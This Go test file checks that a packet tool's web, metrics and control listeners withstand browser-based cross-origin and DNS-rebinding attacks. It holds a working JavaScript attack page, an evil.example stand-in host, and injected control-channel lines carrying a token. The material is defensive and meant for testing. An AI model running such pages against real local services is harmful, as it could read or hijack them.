package cli

import (
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/daqiri/daqiri-run/tests/harness"
)

// originScript counts the calls of its verb stop, and runs until its verb end is called.
const originScript = `
local daqiri = require "daqiri"
local args = daqiri.args{ tcp = "" }
local s = daqiri.open()
local tx = s:tx_queue("loop0")
s:pipe(s:rx_queue("loop0"), s:count{ name = "sink" })
tx:pace{ pps = 1000 }
tx:transmit{ template = tx:template{ payload_bytes = 100 } }
local calls = 0
local ctl = daqiri.control{ tcp = args.tcp, token = "open sesame" }
ctl:on("stop", function() calls = calls + 1 return calls end)
ctl:on("calls", function() return calls end)
ctl:on("end", function() s:after(0, function() s:stop("that was all") end) return "bye" end)
s:after(0, function() print("ready") end)
s:run{}
print("stop was called " .. calls .. " times")
`

// attackPage tries all that a page may try with the addresses that stand in place of AIMS, and reports to the server that it came from what it could read.
const attackPage = `<!doctype html><meta charset="utf-8"><title>attack</title><body><script>
const aims = AIMS;
const results = [];
async function attempt(what, read) {
  let timer;
  const late = new Promise((_, no) => { timer = setTimeout(() => no("no outcome"), 20000); });
  try {
    results.push({ what: what, read: String(await Promise.race([read(), late])), error: "" });
  } catch (e) {
    results.push({ what: what, read: "", error: String(e) });
  }
  clearTimeout(timer);
}
async function fetched(url, options) { // the first bytes: some answers have no end
  const answer = await fetch(url, options);
  if (answer.status >= 400) throw "status " + answer.status;
  if (!answer.body) return "";
  const reader = answer.body.getReader();
  const got = await reader.read();
  reader.cancel();
  return got.value ? new TextDecoder().decode(got.value) : "";
}
function firstEvent(url) { // the first event
  return new Promise((yes, no) => {
    const events = new EventSource(url);
    events.onmessage = (e) => { events.close(); yes(e.data); };
    events.onerror = () => { events.close(); no("onerror"); };
  });
}
function connected(url) {
  return new Promise((yes, no) => {
    const socket = new WebSocket(url.replace("http", "ws"));
    socket.onopen = () => yes("a connection");
    socket.onerror = () => no("onerror");
  });
}
function embedded(tag, key, url) { // an element that shows or runs what is there
  return new Promise((yes, no) => {
    const e = document.createElement(tag);
    e.onload = () => yes("it has loaded");
    e.onerror = () => no("onerror");
    if (tag == "link") e.rel = "stylesheet";
    e[key] = url;
    document.body.append(e);
  });
}
function framed(lead) { // what lead makes a frame show
  return new Promise((yes, no) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + document.getElementsByTagName("iframe").length;
    document.body.append(frame);
    frame.onload = () => {
      const inside = frame.contentDocument;
      if (inside === null) no("contentDocument is null"); else yes(inside.documentElement.outerHTML);
    };
    lead(frame);
  });
}
function submitted(url, text) { // a form of text/plain sends NAME=VALUE
  return framed((frame) => {
    const form = document.createElement("form"), field = document.createElement("textarea");
    form.method = "post";
    form.enctype = "text/plain";
    form.action = url;
    form.target = frame.name;
    field.name = text + "#";
    form.append(field);
    document.body.append(form);
    form.submit();
  });
}
async function attack() {
  for (const url of aims.pages) {
    await attempt("fetch cors " + url, () => fetched(url, { mode: "cors" }));
    await attempt("fetch no-cors " + url, () => fetched(url, { mode: "no-cors" }));
    if (url.endsWith("/events")) await attempt("EventSource " + url, () => firstEvent(url));
    if (aims.reads) continue;
    await attempt("WebSocket " + url, () => connected(url));
    await attempt("iframe " + url, () => framed((frame) => { frame.src = url; }));
    await attempt("img " + url, () => embedded("img", "src", url));
    await attempt("script " + url, () => embedded("script", "src", url));
    await attempt("link " + url, () => embedded("link", "href", url));
  }
  await attempt("WebSocket " + aims.control, () => connected(aims.control));
  await Promise.all(aims.lines.flatMap((text) => {
    const post = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: text };
    return [
      attempt("fetch " + JSON.stringify(text), () => fetched(aims.control, post)),
      attempt("form " + JSON.stringify(text), () => submitted(aims.control, text)),
    ];
  }));
  await fetch("/results", { method: "POST", body: JSON.stringify(results) });
}
attack();
</script>`

// attackLines are messages that a page may send to the control address; the last ones are of a page that has learned the token.
var attackLines = []string{"{\"verb\":\"stop\"}\n", "stop now\n", "token open sesame\nstop now\n", "\ntoken open sesame\nstop\n"}

// aims are what attackPage tries.
type aims struct {
	Pages   []string `json:"pages"`
	Control string   `json:"control"`
	Lines   []string `json:"lines"`
	Reads   bool     `json:"reads"` // only what a page of the same origin can read
}

// attempt is what came of one try.
type attempt struct{ What, Read, Error string }

// attacker serves attackPage, and below /web and /exporter what two listeners answer, to the name that the browser knows the attacker by: so does a
// name that leads to the attacker first and to the listeners later (DNS rebinding).
func attacker(t *testing.T, web, metrics string, a func(host string) aims) (address string, found chan []attempt) {
	t.Helper()
	mux := http.NewServeMux()
	found = make(chan []attempt, 1)
	for path, to := range map[string]string{"/web": web, "/exporter": metrics} {
		proxy := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: "http", Host: to}) // it leaves the Host header as it is
		proxy.FlushInterval = -1
		mux.Handle(path+"/", http.StripPrefix(path, proxy))
	}
	mux.HandleFunc("GET /attack", func(w http.ResponseWriter, r *http.Request) {
		text, err := json.Marshal(a(r.Host))
		if err != nil {
			t.Error(err)
		}
		_, _ = io.WriteString(w, strings.Replace(attackPage, "AIMS", string(text), 1))
	})
	mux.HandleFunc("POST /results", func(_ http.ResponseWriter, r *http.Request) {
		var all []attempt
		if err := json.NewDecoder(r.Body).Decode(&all); err != nil {
			t.Error(err)
		}
		found <- all
	})
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	return server.Listener.Addr().String(), found
}

// tap passes on what a browser sends, and keeps it: the test can tell that something was sent. It keeps the answers, too, and does not pass them on:
// at an answer that is not HTTP the browser would end the connection, perhaps before the message is there.
func tap(t *testing.T, to string) (address string, came, output *harness.Buffer) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	came, output = new(harness.Buffer), new(harness.Buffer)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				there, err := net.Dial("tcp", to)
				if err != nil {
					return
				}
				go func() {
					_, _ = io.Copy(io.MultiWriter(came, there), c)
					_ = there.(*net.TCPConn).CloseWrite()
				}()
				_, _ = io.Copy(output, there)
				_ = there.Close()
			}()
		}
	}()
	return l.Addr().String(), came, output
}

// browse opens a page in headless Chromium until what the page reports has come.
func browse(t *testing.T, page string, found chan []attempt) []attempt {
	t.Helper()
	cmd := exec.Command("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir="+t.TempDir(),
		"--host-resolver-rules=MAP evil.example 127.0.0.1, MAP localhost 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", page)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.WaitDelay = 10 * time.Second
	var errs harness.Buffer
	cmd.Stdout, cmd.Stderr = &errs, &errs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() { _ = cmd.Wait(); close(ended) }()
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGTERM)
		select {
		case <-ended:
		case <-time.After(10 * time.Second):
			_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			<-ended
		}
	}()
	select {
	case all := <-found:
		return all
	case <-ended:
		t.Fatalf("chromium ended: %v\n%s", cmd.ProcessState, errs.String())
	case <-time.After(2 * time.Minute):
		t.Fatalf("the page tells nothing\n%s", errs.String())
	}
	return nil
}

// status is the answer to a GET with a Host and other headers.
func status(t *testing.T, address, host string, header map[string]string) (code int, body []byte) {
	t.Helper()
	r, err := http.NewRequest(http.MethodGet, address, nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Host = host
	for key, value := range header {
		r.Header.Set(key, value)
	}
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	if answer.Header.Get("Content-Type") != "text/event-stream" { // which has no end
		body, err = io.ReadAll(answer.Body)
	}
	if err != nil {
		t.Fatal(err)
	}
	return answer.StatusCode, body
}

// TestOtherOrigin: a page of another port, of another name, and of a name that was made to lead to this machine, reads nothing of --web and
// --metrics, and passes a script nothing over its control channel. The same page reads both where they are its own origin.
func TestOtherOrigin(t *testing.T) {
	harness.Need(t, "chromium")
	dir, program, ctl, web, metrics := t.TempDir(), harness.Built(t), harness.FreeAddress(t), harness.FreeAddress(t), harness.FreeAddress(t)
	if err := os.WriteFile(filepath.Join(dir, "x.lua"), []byte(originScript), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(program, "--summary", "none", "--web", web, "--metrics", metrics, "x.lua", "--tcp", ctl)
	out := new(harness.Buffer)
	cmd.Dir, cmd.Stdout, cmd.Stderr = dir, out, out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		if t.Failed() {
			t.Log(out.String())
		}
	})
	harness.Await(t, "the script is ready", func() bool { return strings.Contains(out.String(), "ready\n") })
	harness.Await(t, "the report is there", func() bool {
		_, body := status(t, "http://"+web+"/", web, nil)
		return bytes.Contains(body, []byte("daqiri"))
	})
	tapped, came, output := tap(t, ctl)
	paths := func(web, metrics string) []string {
		return []string{web + "/", web + "/events", metrics + "/", metrics + "/metrics"}
	}
	for _, c := range []struct {
		name, host string // by which the browser knows the attacker
		own        bool   // the listeners seem to be at the attacker's address
		reads      bool   // and are there by a name of this machine
	}{
		{"another port", "127.0.0.1", false, false},
		{"another name", "localhost", false, false},
		{"a name that leads here", "evil.example", true, false},
		{"the same origin", "127.0.0.1", true, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			address, found := attacker(t, web, metrics, func(host string) aims {
				pages := paths("http://"+web, "http://"+metrics)
				if c.own {
					pages = paths("http://"+host+"/web", "http://"+host+"/exporter")
				}
				return aims{Pages: pages, Control: "http://" + tapped + "/", Lines: attackLines, Reads: c.reads}
			})
			_, port, err := net.SplitHostPort(address)
			if err != nil {
				t.Fatal(err)
			}
			before := strings.Count(came.String(), "POST / HTTP/1.1\r\n")
			all := browse(t, "http://"+net.JoinHostPort(c.host, port)+"/attack", found)
			posts := strings.Count(came.String(), "POST / HTTP/1.1\r\n") - before
			tries := 4*7 + 1
			if c.reads {
				tries = 4*2 + 1
			}
			if want := tries + 1 + 2*len(attackLines); len(all) != want || posts < 2*len(attackLines) {
				t.Errorf("%d attempts, want %d; %d messages to the control address, want %d", len(all), want, posts, 2*len(attackLines))
			}
			for _, a := range all {
				how, of, _ := strings.Cut(a.What, " http://") // messages to the control address have none
				shown := c.reads && of != "" && how != "WebSocket"
				opaque := how == "fetch no-cors" && a.Error == "" // an answer without a body that can be read
				if (a.Read != "") != shown || a.Error == "no outcome" || !shown && !opaque && a.Error == "" {
					t.Errorf("%s: it read %.80q, error %q", a.What, a.Read, a.Error)
				}
			}
			if calls := control(t, ctl, "calls"); calls != `{"ok":true,"reply":0}` || output.String() != "" {
				t.Errorf("calls of stop: %s; the control address says %.200q to a page", calls, output.String())
			}
		})
	}
	const evil = "evil.example"
	for _, page := range paths("http://"+web, "http://"+metrics) {
		u, err := url.Parse(page)
		if err != nil {
			t.Fatal(err)
		}
		there := evil + ":" + u.Port()
		for _, c := range []struct {
			what, host string
			header     map[string]string
			want       int
		}{
			{"a program", u.Host, nil, http.StatusOK},
			{"a page of another origin", u.Host, map[string]string{"Origin": "http://" + evil}, http.StatusForbidden},
			{"a page of no origin", u.Host, map[string]string{"Origin": "null"}, http.StatusForbidden},
			{"a page of another origin by its name", there, map[string]string{"Origin": "http://" + evil}, http.StatusForbidden},
			{"a page by a name that leads here", there, map[string]string{"Origin": "http://" + there}, http.StatusMisdirectedRequest},
			{"a browser by a name that leads here", there, map[string]string{"User-Agent": "Mozilla/5.0"}, http.StatusMisdirectedRequest},
		} {
			if code, body := status(t, page, c.host, c.header); code != c.want || code != http.StatusOK && bytes.Contains(body, []byte("daqiri")) {
				t.Errorf("%s asks %s: %d %.80q, want %d", c.what, page, code, body, c.want)
			}
		}
	}
	// Who has the token calls what the pages tried to call.
	if output := control(t, ctl, "stop"); output != `{"ok":true,"reply":1}` {
		t.Error(output)
	}
	if output := control(t, ctl, "end"); output != `{"ok":true,"reply":"bye"}` {
		t.Error(output)
	}
	if err := cmd.Wait(); err != nil || !strings.Contains(out.String(), "stop was called 1 times\n") {
		t.Errorf("%v\n%s", err, out.String())
	}
}
